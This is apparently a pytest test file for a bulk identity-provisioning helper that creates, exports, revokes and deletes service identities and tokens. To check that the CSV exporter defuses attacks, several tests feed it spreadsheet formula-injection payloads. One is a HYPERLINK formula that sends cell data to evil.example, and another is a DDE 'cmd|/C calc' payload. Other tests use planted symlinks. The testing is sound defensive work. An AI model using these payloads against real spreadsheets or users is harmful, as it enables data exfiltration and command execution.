"""helpers.bulk against the real embedded service: provision, export, revoke, delete."""

from __future__ import annotations

import csv
import io
import stat

import pytest

from helpers import bulk, emulator
from helpers import identity as lab
from tests.support import sdk_client

MALFORMED_ID = "not-an-identity"


def test_provision_creates_distinct_identities_each_with_a_working_token(client, admin):
    seen = []
    result = bulk.provision(
        client, 3, ["chat", "voip"], 90, on_progress=lambda d, t, o: seen.append((d, t, o.ok))
    )
    assert [o.attendee for o in result.outcomes] == [1, 2, 3]
    assert len(set(result.identity_ids)) == 3 and not result.failed
    assert seen == [(1, 3, True), (2, 3, True), (3, 3, True)]
    for outcome in result.outcomes:
        assert outcome.token.identity_id == outcome.identity_id
        assert outcome.token.scopes == ("chat", "voip")
        assert outcome.token.lifetime_minutes == 90
        assert lab.check_token(client, outcome.token.token, admin=admin).status == "valid"
    assert result.summary() == "provision: 3 ok, 0 failed"


def test_the_result_never_shows_a_whole_token(client):
    result = bulk.provision(client, 1, ["voip"])
    token = result.outcomes[0].token.token
    assert token not in repr(result) and token not in str(result)
    assert "eyJhbGciOi…(" in repr(result.outcomes[0])


@pytest.mark.parametrize(
    "count, expected",
    [(0, "outside the allowed range"), (501, "between 1 and 500"), (-3, "outside")]
    + [("ten", "not a number"), (2.5, "not a number"), (True, "not a number")],
)
def test_a_bad_count_is_refused_before_any_request(count, expected):
    with pytest.raises(lab.LabError, match=expected):
        bulk.provision(object(), count, ["voip"])


def test_count_accepts_whole_numbers_written_as_text():
    assert bulk.validate_count(" 12 ") == 12
    assert bulk.validate_count(500) == 500


def test_bad_scopes_or_expiry_fail_once_with_the_service_layer_message():
    with pytest.raises(lab.LabError, match="No scope chosen"):
        bulk.provision(object(), 5, [], 60)
    with pytest.raises(lab.LabError, match="not a whole number of minutes"):
        bulk.provision(object(), 5, ["chat"], "soon")


def test_a_lifetime_the_service_refuses_stops_after_the_first_attendee(client, admin):
    before = len(admin.identities())
    result = bulk.provision(client, 5, ["chat"], 30)
    assert len(result.outcomes) == 1 and not result.succeeded
    assert "ExpiresInMinutes value 30 is invalid" in result.failed[0].error
    assert result.call.method == "create_user_and_token"
    assert len(admin.identities()) == before  # nothing was created


def test_export_leaves_tokens_out_unless_asked(client, tmp_path):
    result = bulk.provision(client, 2, ["chat"], 60)
    path = tmp_path / "out" / "attendees.csv"
    assert bulk.export_csv(result, path) == 2
    text = path.read_text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == bulk.CSV_COLUMNS
    assert [r["identity_id"] for r in rows] == result.identity_ids
    assert all(r["status"] == "ok" and r["expires_at_utc"].endswith("Z") for r in rows)
    assert "eyJ" not in text


def test_export_with_tokens_writes_them_to_an_owner_only_file(client, tmp_path):
    result = bulk.provision(client, 2, ["voip"], 60)
    path = tmp_path / "with-tokens.csv"
    bulk.export_csv(result, path, include_tokens=True)
    rows = list(csv.DictReader(path.open()))
    assert [r["token"] for r in rows] == [o.token.token for o in result.outcomes]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_export_to_a_buffer(client):
    result = bulk.provision(client, 1, ["voip"], 60)
    buffer = io.StringIO()
    bulk.export_csv(result, buffer)
    assert buffer.getvalue().startswith(
        "attendee,name,identity_id,scopes,expires_at_utc,status,error\n"
    )


def test_a_second_batch_continues_the_numbering_and_combines_with_the_first(client):
    first = bulk.provision(client, 2, ["voip"], 60)
    second = bulk.provision(client, 2, ["voip"], 60, first_attendee=3)
    assert [o.attendee for o in second.outcomes] == [3, 4]
    both = bulk.combine([first, second])
    rows = bulk.csv_rows(both)
    assert [r["attendee"] for r in rows] == ["1", "2", "3", "4"]
    assert [r["identity_id"] for r in rows] == first.identity_ids + second.identity_ids


def test_names_pasted_one_per_line_become_the_name_column(client):
    result = bulk.provision(client, 3, ["voip"], 60)
    buffer = io.StringIO()
    bulk.export_csv(result, buffer, names="Ada Lovelace\n\n  Grace   Hopper \n")
    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
    assert [r["name"] for r in rows] == ["Ada Lovelace", "Grace Hopper", ""]


def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_defused():
    result = bulk.BulkResult("provision", (bulk.Outcome(1, error="x"), bulk.Outcome(2, error="y")))
    rows = bulk.csv_rows(result, names=['=HYPERLINK("http://x")', "-Bob"])
    assert [r["name"] for r in rows] == ['\'=HYPERLINK("http://x")', "'-Bob"]


HOSTILE_NAMES = [
    'Ada;=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Grace;  +1+1",
    "Linus,@SUM(A1:A9)",
    'Bob; "=1+1"',
    "Eve;-2+3;=3",
]
FORMULA = ("=", "+", "-", "@")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_is_a_formula_whichever_delimiter_the_spreadsheet_splits_on(delimiter):
    """A spreadsheet in a ';' or tab locale splits our lines elsewhere than we do: every
    piece it can make must still be text."""
    result = bulk.BulkResult(
        "provision",
        tuple(bulk.Outcome(n, error="x;=cmd|' /C calc'!A0\t@SUM(1)") for n in range(1, 6)),
    )
    buffer = io.StringIO()
    bulk.export_csv(result, buffer, names=HOSTILE_NAMES)
    cells = [c for row in csv.reader(io.StringIO(buffer.getvalue()), delimiter=delimiter)
             for c in row]  # fmt: skip
    assert len(cells) >= 6  # a header and five rows at least
    for cell in cells:
        assert not cell.lstrip(' "').startswith(FORMULA), (delimiter, cell)
        assert not cell.startswith(("\t", "\r")), (delimiter, cell)


def test_defusing_keeps_the_text_readable():
    rows = bulk.csv_rows(
        bulk.BulkResult("provision", (bulk.Outcome(1, error="x"),)), names=[HOSTILE_NAMES[0]]
    )
    assert rows[0]["name"] == 'Ada;\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert bulk._safe_cell("Jean-Luc Picard, +49 30 1234") == "Jean-Luc Picard, '+49 30 1234"
    assert bulk._safe_cell("Ada Lovelace") == "Ada Lovelace"


def test_remove_exports_removes_only_the_labs_csv_files(client, tmp_path):
    result = bulk.provision(client, 1, ["voip"], 60)
    ours = [tmp_path / "room.csv", tmp_path / "room-with-tokens.csv"]
    bulk.export_csv(result, ours[0])
    bulk.export_csv(result, ours[1], include_tokens=True)
    theirs = tmp_path / "my-own.csv"
    theirs.write_text("name,email\nAda,ada@example.org\n")
    notes = tmp_path / "notes.txt"
    notes.write_text("attendee,identity_id,status\n")  # not a .csv: not looked at
    removed = bulk.remove_exports(tmp_path)
    assert sorted(removed.removed) == sorted(ours)
    assert not any(p.exists() for p in ours) and theirs.exists() and notes.exists()
    assert removed.summary().startswith("Removed 2 exported file(s): ")
    assert bulk.remove_exports(tmp_path).summary() == "No exported files to remove."
    assert bulk.remove_exports(tmp_path / "missing").removed == ()


def test_remove_export_files_leaves_a_replaced_file_alone_and_says_why(client, tmp_path):
    result = bulk.provision(client, 1, ["voip"], 60)
    path = tmp_path / "room.csv"
    bulk.export_csv(result, path)
    path.write_text("something else now\n")
    removed = bulk.remove_export_files([path, tmp_path / "never-written.csv"])
    assert removed.removed == () and path.exists()
    assert removed.kept == ((path, "not a file this lab exported"),)
    assert "Left alone" in removed.summary()


def test_remove_exports_never_follows_a_link(client, tmp_path):
    result = bulk.provision(client, 1, ["voip"], 60)
    target = tmp_path / "elsewhere" / "room.csv"
    bulk.export_csv(result, target)
    folder = tmp_path / "exports"
    folder.mkdir()
    (folder / "link.csv").symlink_to(target)
    assert bulk.remove_exports(folder).removed == ()
    assert target.exists()


def test_the_default_export_folder_is_in_the_users_home(monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    assert bulk.default_export_dir() == tmp_path / "acs-identity-lab-exports"


def test_revoke_all_revokes_every_token_and_reports_a_bad_id_without_stopping(client, admin):
    result = bulk.provision(client, 2, ["voip"], 60)
    first, second = result.identity_ids
    revoked = bulk.revoke_all(client, [first, MALFORMED_ID, second])
    assert [o.ok for o in revoked.outcomes] == [True, False, True]
    assert "is not an ACS identity id" in revoked.outcomes[1].error
    assert revoked.outcomes[1].identity_id == MALFORMED_ID
    for outcome in result.outcomes:
        assert lab.check_token(client, outcome.token.token, admin=admin).status == "revoked"
    assert revoked.summary().startswith("revoke: 2 ok, 1 failed (attendee 2: 'not-an-identity'")


def test_delete_all_accepts_a_result_and_reports_an_already_deleted_identity(client, admin):
    result = bulk.provision(client, 3, ["voip"], 60)
    lab.delete_identity(client, result.identity_ids[1])
    deleted = bulk.delete_all(client, result)
    assert [o.ok for o in deleted.outcomes] == [True, False, True]
    assert "doesn't exist" in deleted.failed[0].error
    token = result.outcomes[0].token.token
    assert lab.check_token(client, token, admin=admin).status == "identityDeleted"


def test_provision_keeps_going_when_the_service_stops_midway(tmp_path):
    emu = emulator.start(state_dir=tmp_path / "state")
    client = sdk_client(emu.connection_string, emu.ca_bundle)
    try:

        def stop_after_two(done, _total, _outcome):
            if done == 2:
                emu.stop()

        result = bulk.provision(client, 4, ["voip"], 60, on_progress=stop_after_two)
    finally:
        emu.stop()
    assert [o.ok for o in result.outcomes] == [True, True, False, False]
    assert len(result.identity_ids) == 2
    assert all("Can't reach the service" in o.error for o in result.failed)
    assert all("\n" not in o.error for o in result.failed)
    summary = result.summary()
    assert summary.startswith("provision: 2 ok, 2 failed (attendee 3: Can't reach")
    rows = bulk.csv_rows(result)
    assert [r["status"] for r in rows] == ["ok", "ok", "failed", "failed"]


def test_summary_lists_three_reasons_then_counts_the_rest():
    outcomes = tuple(bulk.Outcome(n, error=f"boom {n}") for n in range(1, 6))
    line = bulk.BulkResult("delete", outcomes).summary()
    assert line == (
        "delete: 0 ok, 5 failed (attendee 1: boom 1; attendee 2: boom 2; attendee 3: boom 3;"
        " and 2 more)"
    )


@pytest.mark.parametrize("count", ["²", "1.5", "", "twenty", None, True])
def test_counts_that_are_not_whole_numbers_are_one_line(count):
    with pytest.raises(lab.LabError) as caught:
        bulk.validate_count(count)
    assert "is not a number of attendees" in str(caught.value)


def test_export_replaces_a_planted_link_instead_of_writing_through_it(client, tmp_path):
    result = bulk.provision(client, 1, ["voip"], 60)
    target = tmp_path / "somebody-elses-file"
    target.write_text("theirs\n")
    link = tmp_path / "room.csv"
    link.symlink_to(target)
    bulk.export_csv(result, link, include_tokens=True)
    assert target.read_text() == "theirs\n"
    assert not link.is_symlink() and stat.S_IMODE(link.stat().st_mode) == 0o600
    bulk.delete_all(client, result.identity_ids)
